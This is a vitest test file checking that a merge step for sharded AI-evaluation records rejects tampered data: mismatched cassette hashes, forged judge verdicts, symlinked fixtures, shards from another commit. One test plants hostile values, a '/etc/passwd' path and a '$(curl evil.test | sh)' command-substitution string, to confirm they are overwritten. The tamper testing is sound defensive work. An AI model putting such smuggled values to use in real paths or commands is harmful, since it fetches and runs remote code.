import { execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import { ConfigError } from '../../core/errors.js';
import { rejectionOf } from '../../core/testing/rejection-of.js';
import { readCassette } from '../../replay/cassette-file.js';
import { cassetteHash } from '../../replay/cassette-hash.js';
import { readJudgeCassette } from '../grade/judge-cassette.js';
import { sampleVerdictOf } from '../grade/judge-sample.js';
import { makeRecord } from '../report/testing/records.js';
import { parseJudgeModel } from '../spec/judge-model.js';
import { judgmentOf } from '../spec/judgment.js';
import type { TrialRecord } from '../spec/trial-record.js';
import { recordsFromCheckout } from './checkout-records.js';

const root = fileURLToPath(new URL('../../..', import.meta.url));
const made: string[] = [];
afterEach(() => {
  for (const dir of made.splice(0)) rmSync(dir, { recursive: true, force: true });
});

/** A project with T2's committed cassettes; in git (one commit) when `git` is true. */
function project(git = false): string {
  const dir = mkdtempSync(join(tmpdir(), 'checkout-records-'));
  made.push(dir);
  cpSync(join(root, 'fixtures/T2'), join(dir, 'fixtures/T2'), { recursive: true });
  if (git) {
    const run = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: dir });
    run('init', '-q');
    run('add', '.');
    run('commit', '-qm', 'fixtures');
  }
  return dir;
}

/** A replayed trial of T2 upgraded as a shard would report it, with the cassette's own hash. */
async function replayed(dir: string, trial: number, overrides: Partial<TrialRecord> = {}) {
  const cassette = await readCassette(join(dir, `fixtures/T2/upgraded/trial-${trial}.json`));
  return makeRecord({
    task: 'T2',
    variant: 'upgraded',
    trial,
    cassetteHash: cassetteHash(cassette),
    modelLatenciesMs: cassette.exchanges.map((exchange) => exchange.latencyMs),
    ...overrides,
  });
}

const merge = (dir: string, records: TrialRecord[], commit: string | null = null) =>
  recordsFromCheckout(dir, { records, files: records.map(() => 'shard-1-of-1.json'), commit });

// The breaks (issue 28): edited outcomes, hashes, tokens and latencies merged silently; clean
// shards from an older commit merged on a regressed tree; a forged re-record command was printed.
describe('recordsFromCheckout', () => {
  it("refuses a record whose cassette hash is not the checkout fixture's, naming both", async () => {
    const dir = project();
    const records = [
      await replayed(dir, 1),
      await replayed(dir, 2, { cassetteHash: `sha256:${'0'.repeat(64)}` }),
    ];
    const message = (await rejectionOf(merge(dir, records), ConfigError)).message;
    expect(message).toMatch(
      /^cannot merge: a record does not match this checkout's fixtures: shard-1-of-1\.json: T2 upgraded trial 2 replayed sha256:000000000000…, the checkout's fixtures\/T2\/upgraded\/trial-2\.json is sha256:[0-9a-f]{12}…; the shards ran on other fixtures, or their results were edited: re-run the shards of this commit$/,
    );
  });

  it('refuses a counted record the checkout has no cassette for, or one it cannot read', async () => {
    const dir = project();
    const records = [await replayed(dir, 1, { task: 'T2', variant: 'baseline', trial: 9 })];
    expect((await rejectionOf(merge(dir, records), ConfigError)).message).toMatch(
      /T2 baseline trial 9 replayed a cassette the checkout cannot \(.*trial-9\.json is missing\)/,
    );
  });

  it('takes provenance, latencies and paths from the checkout, not from the shard', async () => {
    const dir = project();
    const record = await replayed(dir, 1, {
      modelLatenciesMs: [1, 1, 1],
      source: 'live',
      host: 'api.anthropic.com',
      recordedAt: '2020-01-01T00:00:00.000Z',
      fixture: '/etc/passwd',
      tracePath: '$(curl evil.test | sh)',
    });
    const [rebuilt] = await merge(dir, [record]);
    const cassette = JSON.parse(
      readFileSync(join(dir, 'fixtures/T2/upgraded/trial-1.json'), 'utf8'),
    );
    expect(rebuilt).toMatchObject({
      source: 'simulator',
      host: cassette.meta.host,
      recordedAt: cassette.meta.recordedAt,
      modelLatenciesMs: cassette.exchanges.map(
        (exchange: { latencyMs: number }) => exchange.latencyMs,
      ),
      fixture: 'fixtures/T2/upgraded/trial-1.json',
      tracePath: 'runs/eval/T2/upgraded/trial-1.jsonl',
    });
  });

  it("reads a dataset case's cassette from its case folder, and names the case", async () => {
    const dir = project();
    cpSync(join(root, 'fixtures/T8/upgraded/q01'), join(dir, 'fixtures/T8/upgraded/q01'), {
      recursive: true,
    });
    const file = join(dir, 'fixtures/T8/upgraded/q01/trial-1.json');
    const hash = cassetteHash(await readCassette(file));
    const record = makeRecord({ task: 'T8', variant: 'upgraded', case: 'q01', trial: 1 });
    const [rebuilt] = await merge(dir, [{ ...record, cassetteHash: hash, tracePath: 'x' }]);
    expect(rebuilt).toMatchObject({
      cassetteHash: hash,
      fixture: 'fixtures/T8/upgraded/q01/trial-1.json',
      tracePath: 'runs/eval/T8/upgraded/q01/trial-1.jsonl',
    });
    const other = { ...record, case: 'q02', cassetteHash: hash };
    expect((await rejectionOf(merge(dir, [other]), ConfigError)).message).toMatch(
      /shard-1-of-1\.json: T8 upgraded case q02 trial 1 replayed a cassette the checkout cannot/,
    );
  });

  it("refuses a judged record whose judge cassette hash is not the checkout's", async () => {
    const dir = project();
    cpSync(join(root, 'fixtures/T7'), join(dir, 'fixtures/T7'), { recursive: true });
    const cassette = await readCassette(join(dir, 'fixtures/T7/upgraded/trial-1.json'));
    const record = makeRecord({
      task: 'T7',
      variant: 'upgraded',
      trial: 1,
      cassetteHash: cassetteHash(cassette),
      judgeCassetteHash: `sha256:${'1'.repeat(64)}`,
    });
    expect((await rejectionOf(merge(dir, [record]), ConfigError)).message).toMatch(
      /T7 upgraded trial 1 was judged from sha256:111111111111…, the checkout's fixtures\/T7\/upgraded\/trial-1\.judge\.json is sha256:[0-9a-f]{12}…/,
    );
  });

  // The break (issue 33): verdicts and outcomes edited inside a shard file were trusted at merge.
  describe("a judged record's verdicts, recomputed from the checkout's judge cassette", () => {
    /** T7 upgraded trial 1 as an honest shard reports it: its verdicts read from its judge cassette. */
    async function judged(dir: string, variant = 'upgraded'): Promise<TrialRecord> {
      cpSync(join(root, 'fixtures/T7'), join(dir, 'fixtures/T7'), { recursive: true });
      const cassette = await readCassette(join(dir, `fixtures/T7/${variant}/trial-1.json`));
      const judge = readJudgeCassette(join(dir, `fixtures/T7/${variant}/trial-1.judge.json`));
      const judgments = judge.cassette.judgments.map((tape) =>
        judgmentOf(
          {
            check: tape.check,
            threshold: 0.5,
            models: [tape.model],
            calls: 'replayed',
            source: 'simulator',
          },
          tape.samples.map((exchange, index) =>
            sampleVerdictOf(exchange, parseJudgeModel(tape.model, 'test'), index + 1),
          ),
        ),
      );
      return makeRecord({
        task: 'T7',
        variant,
        trial: 1,
        cassetteHash: cassetteHash(cassette),
        judgeCassetteHash: judge.hash,
        judgments,
        outcome: judgments.every((judgment) => judgment.verdict === 'pass') ? 'passed' : 'failed',
      });
    }

    it('merges an honest record', async () => {
      const dir = project();
      const record = await judged(dir);
      expect(record.judgments?.[0]?.verdict).toBe('pass');
      expect((await merge(dir, [record]))[0]?.judgments).toEqual(record.judgments);
    });

    it("refuses a record whose verdicts, votes or samples are not the judge cassette's", async () => {
      const dir = project();
      const honest = await judged(dir);
      const judgment = honest.judgments![0]!;
      const forged: TrialRecord[] = [
        { ...honest, judgments: [{ ...judgment, verdict: 'fail' }] },
        { ...honest, judgments: [{ ...judgment, votes: { pass: 0, fail: 3 } }] },
        {
          ...honest,
          judgments: [
            {
              ...judgment,
              samples: judgment.samples.map((sample) => ({ ...sample, label: 'fail' as const })),
            },
          ],
        },
      ];
      for (const record of forged) {
        expect((await rejectionOf(merge(dir, [record]), ConfigError)).message).toMatch(
          /T7 upgraded trial 1 has judge 'polite-refusal' verdicts that are not what fixtures\/T7\/upgraded\/trial-1\.judge\.json says/,
        );
      }
    });

    it('refuses a passed outcome that a failed or erred verdict contradicts', async () => {
      const dir = project();
      const failed = await judged(dir, 'baseline');
      expect(failed.outcome).toBe('failed');
      expect((await merge(dir, [failed]))[0]?.outcome).toBe('failed');
      expect(
        (await rejectionOf(merge(dir, [{ ...failed, outcome: 'passed' }]), ConfigError)).message,
      ).toMatch(/T7 baseline trial 1 passed, though its judge 'polite-refusal' says fail/);
    });
  });

  it('refuses a checkout with a symlink under fixtures/, as eval and verify do', async () => {
    const dir = project();
    const records = [await replayed(dir, 1)];
    renameSync(join(dir, 'fixtures/T2/upgraded'), join(dir, 'upgraded'));
    symlinkSync(join(dir, 'upgraded'), join(dir, 'fixtures/T2/upgraded'));
    expect((await rejectionOf(merge(dir, records), ConfigError)).message).toMatch(
      /^fixtures\/T2\/upgraded is a symbolic link: /,
    );
  });

  it("refuses shards of another commit than the checkout's", async () => {
    const dir = project(true);
    const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: dir }).toString().trim();
    const records = [await replayed(dir, 1)];
    expect(await merge(dir, records, head)).toHaveLength(1);
    const older = 'a'.repeat(40);
    expect((await rejectionOf(merge(dir, records, older), ConfigError)).message).toBe(
      `cannot merge: the shards ran at commit ${older}, this checkout is at ${head}: merge shards of the commit checked out here only (re-run them on it)`,
    );
    expect((await rejectionOf(merge(dir, records, null), ConfigError)).message).toMatch(
      /ran at commit none \(not in git\), this checkout is at [0-9a-f]{40}/,
    );
  });
});
